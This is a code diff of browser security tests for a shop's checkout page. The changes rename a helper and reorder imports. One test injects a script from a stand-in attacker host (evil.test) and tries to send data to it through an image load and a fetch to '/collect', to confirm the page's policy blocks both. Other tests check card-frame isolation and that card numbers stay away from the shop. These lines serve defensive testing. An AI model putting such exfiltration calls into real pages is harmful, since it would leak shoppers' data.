@@ -1,5 +1,4 @@
 import { afterAll, expect, it } from 'vitest'
-import { closeBrowser, expectQuiet, revisit } from '../support/real-browser.ts'
 import {
   acceptTerms,
   cards,
@@ -9,8 +8,9 @@ import {
   newAddress,
   orderIdOf,
   payButton,
-  shopperWith,
-} from '../support/shopper.ts'
+  visitorWith,
+} from '../support/paying-visitor.ts'
+import { closeBrowser, expectQuiet, revisit } from '../support/real-browser.ts'
 
 afterAll(closeBrowser)
 
@@ -34,8 +34,8 @@ it('security 18: a script that got into a page could neither run nor tell anybod
     foreign.src = 'https://evil.test/x.js'
     const failed = new Promise((resolve) => foreign.addEventListener('error', resolve))
     document.body.append(foreign)
-    const picture = new Image()
-    picture.src = 'https://evil.test/stolen.png'
+    const image = new Image()
+    image.src = 'https://evil.test/stolen.png'
     await failed
     const told = await fetch('https://evil.test/collect').then(
       () => true,
@@ -64,7 +64,7 @@ it('security 18: a script that got into a page could neither run nor tell anybod
 })
 
 it('security 33: the card’s frame is shown to no other site, and the page believes no message but the frame’s own', async () => {
-  const visitor = await shopperWith([await cartLine(4319)])
+  const visitor = await visitorWith([await cartLine(4319)])
   const { page } = visitor
   await visitor.goto('/kassen')
   await fillAddress(page, newAddress())
@@ -100,7 +100,7 @@ it('security 33: the card’s frame is shown to no other site, and the page beli
 })
 
 it('security 40: the card’s number never reaches the shop', async () => {
-  const visitor = await shopperWith([await cartLine(4319)])
+  const visitor = await visitorWith([await cartLine(4319)])
   const { page, origin } = visitor
   const toShop: string[] = []
   const elsewhere: string[] = []
